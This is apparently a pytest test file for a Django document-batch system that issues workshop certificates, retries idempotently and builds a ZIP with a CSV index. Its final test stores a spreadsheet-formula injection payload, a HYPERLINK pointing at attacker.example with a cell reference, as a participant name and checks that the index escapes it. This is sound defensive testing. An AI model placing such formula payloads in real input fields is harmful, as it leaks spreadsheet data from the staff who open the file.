"""Batches through the one job lifecycle (jobs/): progress, idempotent attempts, the ZIP, one per kind at a time."""

import csv
import datetime
import io
import time
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone

import jobs
from documents import certificates, kinds
from documents.batches import (
    DOCUMENT_BATCHES,
    BatchAlreadyRunningError,
    document_batch_request,
    document_batch_run,
)
from documents.enums import BatchStatus, DocumentKind
from documents.kinds import KindSpec, register_kind
from documents.models import DocumentBatch, IssuedDocument
from documents.services import document_issue
from registrations.models import Registration
from tests.documents.support import ATTENDANCE, PRESENTER, pdf_text, target_of

pytestmark = pytest.mark.django_db


def _run(world, kind=ATTENDANCE, task_id="task-1"):
    batch = document_batch_request(workshop=world["workshop"], kind=kind, by=world["organiser"])
    return document_batch_run(batch=batch, task_id=task_id)


def _zip(batch) -> zipfile.ZipFile:
    with batch.file.open("rb") as handle:
        return zipfile.ZipFile(io.BytesIO(handle.read()))


def test_a_batch_issues_every_certificate_and_zips_them_with_an_index(world):
    batch = _run(world)
    assert batch.status == BatchStatus.READY, batch.error
    assert (batch.progress_done, batch.progress_total, batch.issued_count, batch.kept_count) == (3, 3, 3, 0)
    assert batch.attempts == 1
    documents = list(IssuedDocument.objects.filter(batch=batch))
    assert sorted(d.holder_name for d in documents) == ["Aigerim Bekova", "Claire Martin", "Omar Haddad"]
    archive = _zip(batch)
    assert sorted(archive.namelist()) == sorted([d.filename for d in documents] + ["index.csv"])
    assert batch.size == batch.file.size
    for document in documents:
        with document.file.open("rb") as stored:
            assert archive.read(document.filename) == stored.read()
        assert document.code in archive.read("index.csv").decode("utf-8-sig")
    omar = next(d for d in documents if d.holder_name == "Omar Haddad")
    assert "Omar Haddad" in pdf_text(archive.read(omar.filename))


def test_a_second_batch_keeps_what_is_still_right_and_reissues_what_changed(world):
    first = _run(world)
    Registration.objects.filter(pk=world["claire"].pk).update(participant_name="Claire Martin-Dubois")
    second = _run(world, task_id="task-2")
    assert (second.issued_count, second.kept_count) == (1, 2)
    assert IssuedDocument.objects.count() == 4
    assert IssuedDocument.objects.current().count() == 3
    old = IssuedDocument.objects.get(batch=first, holder_name="Claire Martin")
    assert old.revocation == "superseded"
    assert old.superseded_by.holder_name == "Claire Martin-Dubois"
    assert len(_zip(second).namelist()) == 4  # every current document, and the index


def test_a_retried_attempt_issues_nothing_twice(world):
    """The first attempt's worker dies after two documents; the watchdog's next attempt finishes the rest."""
    batch = document_batch_request(workshop=world["workshop"], kind=ATTENDANCE, by=world["organiser"])
    assert jobs.claim(DOCUMENT_BATCHES, batch.pk, task_id="dies")
    for key in ("aigerim", "omar"):
        document_issue(
            workshop=world["workshop"],
            kind=ATTENDANCE,
            target=target_of(world["workshop"], ATTENDANCE, world[key]),
            by=None,
            batch=batch,
        )
        jobs.progress(DOCUMENT_BATCHES, batch.pk, step=1, total=3)
    # No sign of life for longer than the spec allows: the watchdog puts it back and sends it again.
    DocumentBatch.objects.filter(pk=batch.pk).update(heartbeat_at=timezone.now() - datetime.timedelta(minutes=10))
    result = jobs.watchdog_for(DOCUMENT_BATCHES)
    assert batch.pk in result["queued"]
    batch.refresh_from_db()
    if batch.status == BatchStatus.QUEUED:  # tasks not inline (a real worker): run the attempt here
        batch = document_batch_run(batch=batch, task_id="second")
    batch.refresh_from_db()
    assert batch.status == BatchStatus.READY, batch.error
    assert batch.attempts == 2
    assert (batch.progress_done, batch.progress_total) == (3, 3)
    assert IssuedDocument.objects.count() == 3  # one each, never two
    assert (batch.issued_count, batch.kept_count) == (3, 0)


def test_a_duplicate_message_for_a_finished_batch_does_nothing(world):
    batch = _run(world)
    again = document_batch_run(batch=batch, task_id="late-duplicate")
    assert again.status == BatchStatus.READY
    assert again.attempts == 1
    assert IssuedDocument.objects.count() == 3


def test_a_second_batch_of_a_kind_under_way_starts_nothing(world):
    running = DocumentBatch.objects.create(
        workshop=world["workshop"], kind=ATTENDANCE, requested_by=world["organiser"], status=BatchStatus.RUNNING
    )
    with pytest.raises(BatchAlreadyRunningError) as refused:
        document_batch_request(workshop=world["workshop"], kind=ATTENDANCE, by=world["organiser"])
    assert refused.value.batch == running
    assert DocumentBatch.objects.count() == 1
    # Another kind may run beside it.
    document_batch_request(workshop=world["workshop"], kind=PRESENTER, by=world["organiser"])
    assert DocumentBatch.objects.count() == 2


def test_the_staff_page_refuses_a_second_batch_with_a_clear_message(client, world):
    running = DocumentBatch.objects.create(
        workshop=world["workshop"], kind=ATTENDANCE, requested_by=world["organiser"], status=BatchStatus.RUNNING
    )
    client.force_login(world["secretariat"])
    response = client.post(
        reverse("documents:batch_start", args=[world["workshop"].slug]), {"kind": ATTENDANCE}, follow=True
    )
    assert f"(batch {running.pk}): nothing new was started" in response.content.decode()
    assert DocumentBatch.objects.count() == 1
    page = client.get(reverse("documents:workshop", args=[world["workshop"].slug])).content.decode()
    assert reverse("documents:batch_status", args=[running.pk]) in page  # the progress bar polls it
    assert "js/build-progress" in page
    status = client.get(reverse("documents:batch_status", args=[running.pk])).json()
    assert status["finished"] is False


@pytest.fixture
def plugged_kind():
    """A kind plugged in as the letters are: a spec registered for a DocumentKind member (the visa
    letter's own spec set aside meanwhile)."""
    original = kinds._kinds.pop(str(DocumentKind.VISA_LETTER), None)

    def plug(**fields):
        return register_kind(KindSpec(kind=DocumentKind.VISA_LETTER, targets=certificates.attendance_targets, **fields))

    yield plug
    kinds._kinds.pop(str(DocumentKind.VISA_LETTER), None)
    if original is not None:
        kinds._kinds[str(DocumentKind.VISA_LETTER)] = original


def test_a_kind_plugged_in_is_issued_by_a_batch_like_the_certificates(world, plugged_kind):
    plugged_kind(template="documents/pdf/certificate_attendance.html", context=lambda w, t: {"extra": 1})
    batch = _run(world, kind=DocumentKind.VISA_LETTER)
    assert batch.status == BatchStatus.READY, batch.error
    assert IssuedDocument.objects.filter(kind=DocumentKind.VISA_LETTER).count() == 3


def test_a_failing_batch_ends_failed_with_the_reason(world, plugged_kind):
    plugged_kind(template="documents/pdf/no-such-letter.html")
    batch = _run(world, kind=DocumentKind.VISA_LETTER)
    assert batch.status == BatchStatus.FAILED
    assert "TemplateDoesNotExist" in batch.error
    assert batch.finished_at is not None
    assert not IssuedDocument.objects.exists()


def _wait(batch, timeout=120):
    deadline = time.monotonic() + timeout
    while batch.is_pending and time.monotonic() < deadline:
        time.sleep(0.2)
        batch.refresh_from_db()
    return batch


@pytest.mark.worker
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_the_secretariat_generates_certificates_from_the_staff_page_and_downloads_the_zip(
    client, celery_worker_process, world
):
    client.force_login(world["secretariat"])
    url = reverse("documents:batch_start", args=[world["workshop"].slug])
    assert client.post(url, {"kind": ATTENDANCE}).status_code == 302
    batch = _wait(DocumentBatch.objects.get())
    assert batch.status == BatchStatus.READY, batch.error
    download = client.get(reverse("documents:batch_download", args=[batch.pk]))
    assert download["Content-Type"] == "application/zip"
    assert download["Content-Disposition"].startswith("attachment")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content)))
    assert len(archive.namelist()) == 4
    page = client.get(reverse("documents:workshop", args=[world["workshop"].slug])).content.decode()
    assert "Claire Martin" in page


def test_the_index_of_the_zip_never_runs_a_holders_name_as_a_formula(world):
    # A delegate's name as typed in the registration form, opened by the staff in a spreadsheet.
    formula = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
    Registration.objects.filter(pk=world["claire"].pk).update(participant_name=formula)
    batch = _run(world)
    assert batch.status == BatchStatus.READY, batch.error
    rows = list(csv.reader(io.StringIO(_zip(batch).read("index.csv").decode("utf-8-sig"))))
    holders = [row[1] for row in rows[1:]]
    assert "'" + formula in holders
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows for cell in row)
